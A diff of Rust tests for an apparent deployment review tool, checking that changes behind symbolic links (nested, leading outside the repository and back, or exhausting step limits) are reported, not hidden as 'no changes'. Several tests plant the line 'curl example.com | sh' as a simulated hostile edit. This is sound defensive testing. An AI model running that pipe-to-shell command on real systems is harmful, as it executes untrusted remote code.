@@ -184,9 +184,14 @@ fn links_that_the_manifest_lists_are_compared_with_what_they_lead_to() {
     work.link("app/away", "../../outside");
     let run = work.attempt("links that the manifest lists");
     assert!(run.code == 0 && run.out.contains("link to ../shared/s.txt"), "{}{}", run.out, run.err);
-    assert!(run.err.contains("app/away is a link to ../../outside, which is not in the repository"), "{}", run.err);
+    assert!(run.err.contains("app/away: a link to ../../outside, which is not in the repository"), "{}", run.err);
     work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    let run = work.look("nothing changed");
+    assert!(run.out.contains("**Not compared**") && run.out.contains("app/away"), "{}", run.out);
+    work.put("app/.deployerignore", "away\n");
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("a link that is not sent").out.contains("no changes"));
     // The files behind these links are sent, and are in no other directory that is compared.
     for (name, shown) in [("shared/s.txt", "one.txt"), ("shared/deep/t.txt", "shared/deep/t.txt")] {
         work.put(name, "two\n");
@@ -198,4 +203,79 @@ fn links_that_the_manifest_lists_are_compared_with_what_they_lead_to() {
     work.put("app/one.txt", "one\n");
     let run = work.attempt("a file that is listed as a link");
     assert!(run.code == 64 && run.out.contains("names ./one.txt, which is not a link"), "{}{}", run.out, run.err);
+}
+
+/// Asserts that a review shows something, and claims nowhere that nothing changed.
+fn shown(work: &Work, what: &str, told: &str) {
+    let run = work.attempt(what);
+    assert!(run.out.contains(told), "{what}: {}{}", run.out, run.err);
+    assert!(!run.out.to_lowercase().contains("no changes"), "{what}: {}{}", run.out, run.err);
+    work.git(&["reset", "-q", "--hard", "main"]);
+}
+
+#[test]
+fn a_link_to_a_directory_above_the_application_is_followed() {
+    let work = Work::new();
+    work.put("shared/start.sh", "echo good\n");
+    work.link("app/up", "..");
+    work.put("app/.deployerignore", "/up/app\n");
+    work.manifest("        links: [ up ]\n");
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.put("shared/start.sh", "curl example.com | sh\n");
+    shown(&work, "a file above the application", "up/shared/start.sh");
+}
+
+#[test]
+fn links_within_links_are_followed_to_the_end() {
+    let work = Work::new();
+    let mut links = vec!["x".to_owned()];
+    work.link("app/x", "../shared/d1");
+    for number in 1..30 {
+        work.put(&format!("shared/d{number}/f"), "echo good\n");
+        work.link(&format!("shared/d{number}/n"), &format!("../d{}", number + 1));
+        links.push(format!("{}/n", links[number - 1]));
+    }
+    work.put("shared/d30/f", "echo good\n");
+    work.manifest(&format!("        links: [ {} ]\n", links.join(", ")));
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    assert!(work.look("nothing changed").out.contains("no changes"));
+    work.put("shared/d30/f", "curl example.com | sh\n");
+    shown(&work, "a file behind thirty links", "n/n/n/f");
+}
+
+/// The path of a checkout is known: a link can lead out of the repository and back.
+#[test]
+fn a_link_that_leads_out_and_back_is_not_without_changes() {
+    for target in ["ABSOLUTE/shared", "../../repository/shared"] {
+        let work = Work::new();
+        let top = work.repository();
+        work.put("shared/start.sh", "echo good\n");
+        work.link("app/shared", &target.replace("ABSOLUTE", top.to_str().expect("text")));
+        work.manifest("        links: [ shared ]\n");
+        work.commit();
+        work.git(&["branch", "-q", "-f", "main"]);
+        work.put("shared/start.sh", "curl example.com | sh\n");
+        shown(&work, target, "app/shared");
+    }
+}
+
+/// Links that use up all steps of a review leave nothing uncompared without a word.
+#[test]
+fn links_that_lead_through_too_many_others_end_the_review() {
+    let work = Work::new();
+    work.put("tools/token.sh", "echo good\n");
+    work.put("deployment.yaml", &manifest("./app", "{ A: { from_command: [./tools/token.sh] } }", ""));
+    let long = "a/".repeat(1990);
+    for number in 1..=200 {
+        work.link(&format!("app/l{number}"), &format!("l{}/{long}", number + 1));
+    }
+    work.commit();
+    work.git(&["branch", "-q", "-f", "main"]);
+    work.put("tools/token.sh", "curl example.com | sh\n");
+    let run = work.attempt("links that use up all steps");
+    assert!(run.code == 64 && run.out.contains("links lead through too many others"), "{}{}", run.out, run.err);
+    assert!(!run.out.to_lowercase().contains("no changes"), "{}", run.out);
 }
